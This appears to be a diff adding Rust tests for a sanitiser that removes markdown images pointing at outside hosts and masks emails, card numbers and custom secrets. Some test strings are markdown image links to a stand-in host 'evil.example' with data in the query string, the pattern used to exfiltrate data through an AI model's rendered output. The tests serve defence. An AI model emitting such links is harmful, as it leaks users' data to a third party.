@@ -209,3 +209,78 @@ fn an_answer_ends_at_a_canary_however_it_is_written() {
     let (same, findings) = whole(&answers, &filler, false);
     assert_eq!((same, findings.len()), (filler, 0));
 }
+
+#[test]
+fn what_never_ends_is_let_go_and_nothing_waits_for_ever() {
+    let answers = answers(GUARDS, "");
+    for text in [
+        format!("values = [{}", "one, ".repeat(3_000)),
+        format!("<!-- {}", "word ".repeat(3_000)),
+        format!("![a {}", "x".repeat(20_000)),
+        format!("[ {}", "漢字".repeat(4_000)),
+        "[".repeat(9_000),
+    ] {
+        let (same, _) = whole(&answers, &text, false);
+        assert_eq!(same, text);
+    }
+    let far = format!("{}![x](https://evil.example/p.png)", "[1, 2 ".repeat(2_000));
+    assert!(!whole(&answers, &far, false).0.contains("evil.example"));
+}
+
+#[test]
+fn a_picture_within_brackets_or_defined_later_is_taken_out() {
+    let answers = answers(GUARDS, "");
+    let long = "word ".repeat(60);
+    for text in [
+        format!("![[x] {long}](https://evil.example/p?d=s) end"),
+        format!("See ![p][r]. {long}\n[r]: https://evil.example/x?d=s\n end"),
+    ] {
+        let (clean, _) = whole(&answers, &text, false);
+        assert!(
+            clean.contains("[removed]") && !clean.contains("![p]"),
+            "{clean}"
+        );
+        cut_everywhere(&answers, &text);
+    }
+}
+
+#[test]
+fn a_value_of_words_is_masked_whole() {
+    let answers = answers(MASKS, "");
+    for text in [
+        "ada [at] example [dot] com",
+        "ada (at) example (dot) com",
+        "a d a @ e x a m p l e . c o m",
+    ] {
+        let text = format!("write to {text} today, please do");
+        let (clean, _) = whole(&answers, &text, false);
+        assert!(clean.contains("write to [EMAIL_ADDRESS] today"), "{clean}");
+        cut_everywhere(&answers, &text);
+    }
+    let own = "version: 1\nentities: {}\ncustom:\n  - {name: PROJECT, class: secret, action: mask, answers: mask, pattern: '(?-u:\\b)Falcon(?-u:\\b)'}\n";
+    assert_eq!(
+        whole(&self::answers(own, ""), "It is Falcon again", false).0,
+        "It is [PROJECT] again"
+    );
+}
+
+#[test]
+fn json_stays_json_where_a_value_follows_a_sign_in_a_text() {
+    let answers = answers(MASKS, "");
+    for (text, clean) in [
+        (
+            r#"{"text": "cards: 5555555555554444"}"#,
+            r#"{"text": "cards: [CREDIT_CARD]"}"#,
+        ),
+        (
+            r#"{"text": "a \"b, 5555555555554444"}"#,
+            r#"{"text": "a \"b, [CREDIT_CARD]"}"#,
+        ),
+        (
+            r#"{"n": 5555555555554444, "m": 1}"#,
+            r#"{"n": "[CREDIT_CARD]", "m": 1}"#,
+        ),
+    ] {
+        assert_eq!(whole(&answers, text, true).0, clean);
+    }
+}
